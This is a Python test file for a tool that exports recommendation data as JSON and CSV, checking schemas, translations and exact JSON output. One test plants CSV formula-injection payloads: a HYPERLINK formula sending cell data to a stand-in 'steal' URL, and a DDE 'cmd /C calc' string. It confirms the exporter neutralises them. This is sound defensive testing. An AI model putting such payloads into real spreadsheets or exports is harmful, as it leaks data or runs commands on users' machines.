"""Open data: the JSON validates against its published schema and the CSV opens as one row per recommendation."""

from __future__ import annotations

import csv
import io
import json

import jsonschema_rs

from quaestio.pipeline import check
from quaestio.publish.branding import load_branding
from quaestio.publish.buildinfo import BuildInfo
from quaestio.publish.exports import write_data


def _export(repo, tmp_path):
    checked = check(repo.root)
    info = BuildInfo("0123456789abcdef", 1449532800, {"quaestio": "test"})
    return write_data(checked.corpus, info, load_branding(repo.root), tmp_path / "data")


def test_json_matches_its_schema_and_carries_version_and_revision(repo, tmp_path):
    json_path, schema_path, *_ = _export(repo, tmp_path)
    document = json.loads(json_path.read_text(encoding="utf-8"))
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    assert jsonschema_rs.validator_for(schema).is_valid(document)
    assert document["format_version"] == "2.0"
    assert (document["revision"], document["date"]) == ("0123456789abcdef", "2015-12-08")
    assert [r["id"] for r in document["recommendations"]] == ["ALP-ACA-01", "ALP-BUS-01", "ALP-BUS-02", "ALP-PUB-01"]


def test_json_keeps_translations_links_both_ways_and_permanent_urls(translated, tmp_path):
    document = json.loads(_export(translated, tmp_path)[0].read_text(encoding="utf-8"))
    challenge = document["topics"][0]["challenges"][1]
    assert challenge["title"] == {"en": "Second challenge", "fr": "Deuxième défi", "nl": "Tweede uitdaging"}
    by_id = {r["id"]: r for r in document["recommendations"]}
    assert by_id["ALP-BUS-01"]["related"] == ["ALP-ACA-01"]
    assert by_id["ALP-BUS-02"]["superseded_by"] == "ALP-BUS-01"
    assert by_id["ALP-PUB-01"]["url"].endswith("/recommendations/ALP-PUB-01/")


def test_csv_has_one_row_per_recommendation_with_a_bom_for_spreadsheets(repo, tmp_path):
    csv_path = _export(repo, tmp_path)[2]
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [r["id"] for r in rows] == ["ALP-ACA-01", "ALP-BUS-01", "ALP-BUS-02", "ALP-PUB-01"]
    assert rows[3]["addresses"] == "ALP-C1; ALP-C2"
    assert (rows[1]["implementation_status"], rows[1]["acceptance"], rows[1]["last_assessed"]) == (
        "in progress",
        "no response",
        "2016-07-06",
    )
    assert rows[2]["withdrawal_reason"] == "Replaced by ALP-BUS-01."


def test_csv_cells_never_start_like_a_spreadsheet_formula(repo, tmp_path):
    repo.replace(
        "recommendations/alpha/public.yaml",
        "    title: Fund the first challenge",
        '    title: \'=HYPERLINK("https://example.org/steal?"&A1, "Click")\'',
    )
    repo.replace(
        "recommendations/alpha/public.yaml",
        "    rationale: Because nobody else will.",
        "    rationale: '@SUM(1+1)*cmd|'' /C calc''!A0'",
    )
    rows = list(csv.DictReader(_export(repo, tmp_path)[2].read_text(encoding="utf-8-sig").splitlines()))
    public = next(r for r in rows if r["id"] == "ALP-PUB-01")
    assert public["title"] == '\'=HYPERLINK("https://example.org/steal?"&A1, "Click")'
    assert public["rationale"].startswith("'@SUM")
    assert rows[0]["title"] == "Teach the first challenge"  # ordinary text is untouched


def test_json_lists_its_languages_and_csv_has_one_file_per_language(translated, tmp_path):
    written = _export(translated, tmp_path)
    assert [p.name for p in written] == [
        "recommendations.json",
        "recommendations.schema.json",
        "recommendations.csv",
        "recommendations.fr.csv",
        "recommendations.nl.csv",
        "references.json",
        "catalog.json",
        "follow-up.csv",
        "follow-up-history.csv",
        "follow-up.xlsx",
    ]
    document = json.loads(written[0].read_text(encoding="utf-8"))
    schema = json.loads(written[1].read_text(encoding="utf-8"))
    assert jsonschema_rs.validator_for(schema).is_valid(document)
    assert document["languages"] == ["en", "fr", "nl"]
    rows = list(csv.DictReader(io.StringIO(written[3].read_text(encoding="utf-8-sig"))))
    public = next(r for r in rows if r["id"] == "ALP-PUB-01")
    assert (public["title"], public["rationale"]) == ("Financer le premier défi", "Because nobody else will.")
    assert public["untranslated"] == "rationale"
    assert public["url"].endswith("/fr/recommendations/ALP-PUB-01/")
    english = list(csv.DictReader(io.StringIO(written[2].read_text(encoding="utf-8-sig"))))
    assert "untranslated" not in english[0]


def test_a_stale_translation_is_left_out_of_the_json(translated, tmp_path):
    translated.replace("recommendations/alpha/public.yaml", "Authorities should fund it.", "Authorities must fund it.")
    document = json.loads(_export(translated, tmp_path)[0].read_text(encoding="utf-8"))
    public = next(r for r in document["recommendations"] if r["id"] == "ALP-PUB-01")
    assert public["text"] == {"en": "Authorities must fund it."}
    assert public["title"]["fr"] == "Financer le premier défi"


def test_the_json_files_are_the_standard_librarys_indented_json_byte_for_byte(translated, tmp_path):
    """orjson writes them (ten times faster); a reader, a diff or a checksum sees what json.dumps(indent=2)
    would write, hostile text included (quotes, controls, line separators, markup, astral characters)."""
    from quaestio.publish.exports import corpus_items, indented_json, open_data
    from quaestio.publish.oscal import oscal_catalog
    from support.hostile import hostile_corpus

    checked = check(translated.root)
    info = BuildInfo("0123456789abcdef", 1449532800, {"quaestio": "test"})
    branding = load_branding(translated.root)
    for corpus in (checked.corpus, hostile_corpus(checked.corpus)):
        documents = (open_data(corpus, info, branding), corpus_items(corpus), oscal_catalog(corpus, info, branding))
        for document in documents:
            assert indented_json(document) == (json.dumps(document, indent=2, ensure_ascii=False) + "\n").encode()
    edge = {"text": 'a"\\/\x00\x1f\x7f\u2028\u2029é😀\t\n', "numbers": [1, 2.5, 1e20, -0.0, 10**18, True, None]}
    assert indented_json(edge) == (json.dumps(edge, indent=2, ensure_ascii=False) + "\n").encode()
